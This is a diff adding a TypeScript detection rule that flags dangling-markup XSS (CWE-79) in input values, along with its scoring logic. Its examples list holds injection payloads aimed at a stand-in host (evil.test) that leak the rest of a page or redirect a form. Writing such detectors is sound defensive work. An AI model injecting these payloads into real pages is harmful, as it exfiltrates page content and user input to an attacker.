@@ -1,0 +1,116 @@
+import { charClass } from '../../text/char-class.ts';
+import { type HtmlAttribute, type HtmlTag, html } from '../../tokenise/html.ts';
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { isForeignUrl, squeeze } from './markup.ts';
+
+/** `"><img src='//evil.test/?`: what follows on the page becomes part of a URL, or of a form. */
+export const danglingMarkup: ValueRule = {
+  id: 'xss.dangling-markup',
+  category: 'xss',
+  cwe: 'CWE-79',
+  severity: 'high',
+  score: 78,
+  message: 'leaves a tag, attribute or element open, so that it swallows the page that follows',
+  trigger: { classes: charClass.less },
+  judge: judgeDangling,
+  examples: [
+    '"><img src=\'//evil.test/?',
+    "<img src='https://evil.test/log?html=",
+    "'><form action=//evil.test/><input type=submit>",
+    '"><base target=\'',
+    '"><plaintext>',
+    "'><textarea name=x>",
+  ],
+  lookalikes: [
+    'The photo: <img src="https://cdn.example.org/ima',
+    '<p>see</p><a href="https://example.org/?id=',
+    'a "quoted" text > b <textarea> is an element',
+    '<form action="https://example.org/search"><input name="q"></form>',
+    'size 5"> <b>big</b>',
+    'encrypt <plaintext> with "key"',
+  ],
+};
+
+/** What swallows the page when it stays open. */
+const swallowing: ReadonlySet<string> = new Set([
+  'plaintext',
+  'textarea',
+  'xmp',
+  'style',
+  'title',
+  'noscript',
+  'option',
+]);
+const urlNames: ReadonlySet<string> = new Set([
+  'src',
+  'href',
+  'action',
+  'poster',
+  'background',
+  'data',
+]);
+
+function judgeDangling(subject: Subject): Match | undefined {
+  const { text } = subject;
+  const isOut = breaksOut(text);
+  if (!isOut && !canDangle(text)) return undefined;
+  const { tags } = subject.tokens(html);
+  if (isOut) {
+    const first = tags[0];
+    if (first !== undefined && isSwallowing(text, first, tags)) {
+      return { start: 0, end: first.end, score: 78 };
+    }
+  }
+  const last = tags[tags.length - 1];
+  if (last === undefined || last.isClosed) return undefined;
+  const open = last.attributes[last.attributes.length - 1];
+  if (open === undefined || !isOpen(text, open)) return undefined;
+  const score = scoreOfOpen(text, last, open, isOut);
+  return score === 0 ? undefined : { start: last.start, end: text.length, score };
+}
+
+/** A quotation mark that nothing has opened, and the end of a tag that the text does not begin. */
+function breaksOut(text: string): boolean {
+  const end = text.indexOf('>');
+  if (end < 1 || end > breakOutCharsMax) return false;
+  const before = text.slice(0, end);
+  if (before.includes('<') || before.includes(' ')) return false;
+  return before.split('"').length % 2 === 0 || before.split("'").length % 2 === 0;
+}
+
+const breakOutCharsMax = 24;
+
+/** The last quotation mark is followed by no tag end: an attribute may be open. */
+function canDangle(text: string): boolean {
+  return !text.includes('>', text.lastIndexOf('<'));
+}
+
+function isSwallowing(text: string, tag: HtmlTag, tags: readonly HtmlTag[]): boolean {
+  if (tag.isEndTag) return false;
+  const isEnded = tags.some(({ name, isEndTag }) => isEndTag && name === tag.name);
+  if (isEnded) return false;
+  if (swallowing.has(tag.name)) return tag.isClosed;
+  if (tag.name !== 'form' && tag.name !== 'button') return false;
+  return tag.attributes.some(
+    ({ name, valueStart, valueEnd }) =>
+      (name === 'action' || name === 'formaction') &&
+      isForeignUrl(squeeze(text, valueStart, valueEnd)),
+  );
+}
+
+/** A quoted value whose closing mark is missing. */
+function isOpen(text: string, { quote, valueEnd }: HtmlAttribute): boolean {
+  return quote !== 0 && valueEnd === text.length;
+}
+
+/** A text may be cut off in the middle of a URL; it is not made to end where data would follow. */
+function scoreOfOpen(text: string, tag: HtmlTag, open: HtmlAttribute, isOut: boolean): number {
+  if (open.name === 'target') return tag.name === 'base' || isOut ? 76 : 0;
+  if (!urlNames.has(open.name)) return 0;
+  const url = squeeze(text, open.valueStart, open.valueEnd);
+  if (!isForeignUrl(url)) return 0;
+  if (isOut) return 80;
+  const isLoaded = tag.name === 'img' || tag.name === 'image' || tag.name === 'iframe';
+  return isLoaded && tag.start === 0 && (url.endsWith('?') || url.endsWith('=')) ? 76 : 40;
+}
